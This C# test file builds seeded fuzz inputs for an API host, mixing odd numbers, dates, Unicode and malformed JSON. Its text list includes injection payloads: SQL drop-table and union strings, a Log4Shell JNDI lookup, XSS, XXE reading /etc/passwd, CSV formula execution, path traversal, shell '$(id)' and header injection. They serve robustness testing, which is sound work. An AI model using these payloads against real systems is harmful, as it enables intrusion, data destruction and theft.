using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Carm.Host.Tests;

/// <summary>What nobody means: the same for the same seed, so that whatever fails can be sent again.</summary>
static class Oddities
{
    /// <summary>Two values that say what is done to the field itself.</summary>
    public const string Missing = "missing", Twice = "twice";

    static readonly string[] Numbers =
    [
        "0", "-0", "-0.00", "1", "-1", "+1.00", "1.", ".5", "1.0", "1.00", "0.01", "0.001", "-0.01", "1e5", "1e400", "-1e400", "1E-400", "NaN", "Infinity", "-Infinity", "0x10", "1_000", "1,000.00", "1 000,00", "00000000000000000001.00", "$1.00", " 1.00", "1.00\n",
        "32768", "2147483647", "2147483648", "-2147483649", "4294967296", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "79228162514264337593543950335", "79228162514264337593543950336",
        "9999999999999.99", "-9999999999999.99", "99999999999999.99", "0.0000000000000000000000000001", "12345.67890123456789012345678", new('9', 28), new('9', 400), "\u0661\u0662", "\uff11\uff12\uff13", "\u00b2", "\ud835\udfd9",
    ];

    static readonly string[] Days =
    [
        "0001-01-01", "0001-01-02", "1752-09-14", "1899-12-31", "1900-01-01", "1989-12-31", "1990-01-01", "1990-02-01", "2000-02-29", "2024-02-29", "2026-02-29", "2026-02-30", "2026-03-08", "2026-11-01", "2026-13-01", "2026-00-00", "2026-3-1", "26-03-01", "20260316",
        "2099-12-31", "2100-01-01", "2100-12-31", "2101-01-01", "9998-12-31", "9999-01-01", "9999-12-31", "10000-01-01", "-0001-01-01", "2026-03-16Z", "16/03/2026", "today", "2026-W12-1", "2026-075", "2031Q1", "2031Q5", "0000Q0", "9999Q4", "0001Q1", "2026-03", "0000-00",
        "2026-03-16T15:00:00Z", "2026-03-16T15:00:00", "2026-03-16 15:00:00Z", "2026-03-16T25:00:00Z", "2026-06-30T23:59:60Z", "2026-03-08T02:30:00-05:00", "2026-03-16T15:00:00+14:00", "2026-03-16T15:00:00-14:00", "2026-03-16T15:00:00+99:00", "2026-03-16T15:00:00.1234567891Z",
        "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "0001-01-01T00:00:00-14:00", "1900-01-01T00:00:00+14:00", "2100-12-31T23:59:59-14:00", "9999-12-31T23:59:59Z", "9999-12-31T23:59:59-14:00", "9999-12-31T23:59:59.9999999+14:00", "1767225600", "-62135596800",
    ];

    static readonly string[] Texts =
    [
        "", " ", "\t", "\n", "\r\n", "null", "undefined", "true", "FALSE", "[]", "{}", "NULL", "none", "*", "?", "-", ".", "..", "/", "//", "\\", "'", "\"", "`", "%", "_", "%%%", "\\%", "&", "#", ";", ",", "|", "=", ":", "@",
        "' or '1'='1", "1; drop table ledger.open_item --", "') union select null, null --", "a' || pg_sleep(0) || '", "$1", "?::jsonb", "{\"a\":1}", "[a-z]", "(", ")", "((((((((((a+)+)+$", "a{1,99999}", "{0}", "{0:D99}", "{", "{{", "}}", "%s%n", "${jndi:ldap://x.example/a}", "{{7*7}}", "<%= 7*7 %>",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&amp;&lt;", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "]]>", "-->", "=1+1", "@SUM(A1)", "+1|' /C calc'!A0", "../../../etc/passwd", "..\\..\\win.ini", "/etc/passwd", "file:///etc/passwd", "C:\\x", "con", "a/b", "a?b", "a#b", "a&b=c", "a;b", "a,b", "a|b", "a:b", "$(id)", "; id",
        "\r\nX-Injected: yes", "x\nX-Injected: yes", "\0", "a\0b", "\u0001\u0002", "\u001b[31m", "\b", "\u007f", "\u0085", "\u00a0", "\u200b", "\u2028\u2029", "\ufeff", "\uffff", "\ufffd", "\u202eabc", "\u2066abc\u2069", "\u00e9", "e\u0301", "\u00df", "\u0130", "\u0131", "\ufb00", "\u01c6", "\u212b", "\u65e5\u672c\u8a9e", "\u0645\u0631\u062d\u0628\u0627", "\u05e9\u05dc\u05d5\u05dd",
        "\ud83d\ude00", "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67", "\ud835\udd38\ud835\udd39", "a@b", "a@b.c\r\nBcc: x@y.z", "@", "a@\u65e5\u672c.example", "http://127.0.0.1/", "javascript:alert(1)", "https://", "http://[::1]:99999/", "00000000000000", "99999999999999", "000000000", "000000000RM0000", "999999999RM9999", "12345000000013", "S-1:2", ":", "::", "a:b:c",
        new('a', 65), new('A', 101), new('x', 256), new('y', 1_001), new('0', 4_097), new('z', 100_000), new(' ', 1_000), new('\u0301', 5_000), new('\u65e5', 2_000), "Z" + new string('\u0335', 200), new StringBuilder().Insert(0, "\ud83d\ude00", 1_000).ToString(), new StringBuilder().Insert(0, "a ", 2_000).ToString(), new('(', 3_000), new('-', 70_000),
    ];

    /// <summary>Of the wrong type, or of none: as they stand in a body, many of them not JSON.</summary>
    static readonly string[] Raw =
    [
        Missing, Twice, "null", "true", "false", "0", "-0", "-0.0", "1", "-1", "1.5", "5.0", "1e0", "1E5", "0.1", "32768", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "18446744073709551616", "1e400", "-1e400", "1e-400", "1e28", new('9', 28), "1" + new string('0', 400), "0." + new string('0', 300) + "1",
        "NaN", "Infinity", "-", "01", "+1", ".5", "1.", "'a'", "tru", "undefined", "", "1,", "\"abc", "\"\\x\"", "\"\t\"", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"a\\ud83d\"", "\"a\\u0000b\"", "//\nnull", "/**/null", "\ufeffnull",
        "[]", "[[]]", "[null]", "[null,null]", "[\"\"]", "[\"a\\u0000b\"]", "[\"\\ud800\"]", "[0]", "[true]", "[{}]", "[{},{}]", "[", "[1,]", "{}", "{\"a\":1}", "{\"\":null}", "{\"\\u0000\":1}", "{\"\\ud800\":1}", "{\"a\":1,\"a\":2}", "{\"$ref\":\"#\"}", "{\"__proto__\":{}}", "{\"$type\":\"a\",\"$id\":\"1\"}", "{", "{\"a\"}",
        new string('[', 70) + new string(']', 70), new string('[', 5_000), new StringBuilder().Insert(0, "{\"a\":", 70).Append('1').Append('}', 70).ToString(), "[" + string.Join(',', Enumerable.Repeat("0", 10_000)) + "]", "[" + string.Join(',', Enumerable.Repeat("\"\"", 10_000)) + "]", "[" + string.Join(',', Enumerable.Repeat("{}", 10_000)) + "]",
    ];

    static readonly string[] Pools = ["abcdefghijklmnopqrstuvwxyz", "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", "0123456789.-", " \t\r\n\u00a0\u2003", "'\"\\%_;:<>&{}[]()$#@!?*|/", "\u0301\u0335\u0489\u200d\u202e", "\u00e9\u0130\u0131\u00df\ufb01\u05d0\u0627\u4e2d\ud55c", "\u0001\u0007\u001b\u007f\ufeff\ufffe"];

    static readonly string[] AnyText = [.. Texts.Concat(Numbers).Concat(Days).Distinct()], AnyJson = [.. Raw.Concat(AnyText.Select(Quoted)).Distinct()], BareNumbers = [.. Numbers.Where(IsNumber)];

    /// <summary>So many texts for a place that holds one, as a path, a query, a header or a cell.</summary>
    public static string[] TextsFor(string valid, Random random, int count)
    {
        var ofKind = OfKind(valid);
        return Some(ofKind, AnyText, () => Change(valid, ofKind, random), random, count);
    }

    /// <summary>So many values for a field of a body, as JSON or what is none.</summary>
    public static string[] JsonFor(JsonNode? valid, string[] words, Random random, int count)
    {
        var (text, whole) = (valid is JsonValue ? valid.ToString() : "", valid?.ToJsonString() ?? "\"A\"");
        var item = valid is JsonArray { Count: > 0 } list ? list[0]?.ToJsonString() ?? "null" : whole;
        string[] ofKind = [.. words, .. words.Select(w => w.ToLowerInvariant()), .. words.Select(w => $" {w}"), .. words.Select(w => w.Replace("_", "", StringComparison.Ordinal)), .. OfKind(text)];
        string[] own = [$"[{whole}]", $"[{item},{item}]", $"{Many}{item}", .. ofKind.Select(Quoted), .. valid?.GetValueKind() == JsonValueKind.Number ? BareNumbers : []];
        return [.. Some(own, AnyJson, () => Quoted(Change(text, ofKind, random)), random, count).Select(odd => odd.StartsWith(Many, StringComparison.Ordinal) ? $"[{string.Join(',', Enumerable.Repeat(odd[Many.Length..], Math.Clamp(400_000 / odd.Length, 100, 10_000)))}]" : odd)];
    }

    const string Many = "many: ";

    /// <summary>As it is written in JSON.</summary>
    static string Quoted(string text) => JsonSerializer.Serialize(text);

    static bool IsNumber(string text)
    {
        try
        {
            return JsonNode.Parse(text)?.GetValueKind() == JsonValueKind.Number;
        }
        catch (JsonException)
        {
            return false;
        }
    }

    static string[] OfKind(string valid) =>
        DateOnly.TryParse(valid, CultureInfo.InvariantCulture, out _) || DateTimeOffset.TryParse(valid, CultureInfo.InvariantCulture, out _) ? Days
        : decimal.TryParse(valid, NumberStyles.Number, CultureInfo.InvariantCulture, out _) ? Numbers
        : valid.Length > 0 ? [valid.ToLowerInvariant(), valid.ToUpperInvariant(), $" {valid}", $"{valid} ", $"{valid}\n", valid + valid, valid[..^1], valid[1..], $"{valid}\0", $"{valid}%00", string.Concat(valid.Reverse())] : [];

    static string[] Some(string[] own, string[] any, Func<string> made, Random random, int count)
    {
        // A third is of the field's own kind where there is so much, and a quarter new for each field; more where the known ones do not suffice.
        (own, any) = ([.. own], [.. any]);
        random.Shuffle(own);
        random.Shuffle(any);
        if (count == 1) return [random.Next(3) switch { 0 when own.Length > 0 => own[0], 1 => made(), _ => any[0] }];
        var values = own.Take(count / 3).ToHashSet();
        foreach (var odd in any.TakeWhile(_ => values.Count < count - (count / 4))) values.Add(odd);
        for (var tries = 0; values.Count < count && tries < 20 * count; tries++) values.Add(made());
        return [.. values];
    }

    /// <summary>What is valid, changed a little, or something altogether new.</summary>
    static string Change(string valid, string[] ofKind, Random random)
    {
        var text = new StringBuilder(random.Next(4) == 0 && ofKind.Length > 0 ? ofKind[random.Next(ofKind.Length)] : valid);
        if (text.Length == 0 || random.Next(4) == 0) return Made(random, random.Next(3) == 0 ? 300 : 20);
        for (var changes = random.Next(1, 4); changes > 0; changes--)
        {
            var at = random.Next(text.Length + 1);
            switch (random.Next(5))
            {
                case 0 when at < text.Length:
                    text.Remove(at, 1);
                    break;
                case 1 when at < text.Length:
                    text[at] = Pick(random);
                    break;
                case 2:
                    text.Insert(at, Made(random, 5));
                    break;
                case 3 when text.Length < 2_000:
                    text.Append(text.ToString());
                    break;
                default:
                    text.Insert(at, Pick(random));
                    break;
            }
        }
        return text.ToString();
    }

    static string Made(Random random, int longest) => string.Create(random.Next(1, longest), random, static (span, random) =>
    {
        var pool = Pools[random.Next(Pools.Length)];
        for (var i = 0; i < span.Length; i++) span[i] = random.Next(6) == 0 ? Pick(random) : pool[random.Next(pool.Length)];
    });

    static char Pick(Random random) => Pools[random.Next(Pools.Length)] is var pool ? pool[random.Next(pool.Length)] : ' ';
}
